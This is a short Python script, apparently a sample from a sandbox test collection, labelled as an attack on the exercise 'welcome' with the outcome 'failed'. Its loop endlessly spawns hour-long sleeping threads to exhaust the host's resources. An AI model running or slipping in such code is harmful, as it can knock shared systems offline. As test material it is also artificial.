# attack: starts threads without end | 无休止地创建线程
# exercise: welcome
# outcome: failed
import threading
import time

while True:
    try:
        threading.Thread(target=time.sleep, args=(3600,)).start()
    except RuntimeError:
        time.sleep(0.01)
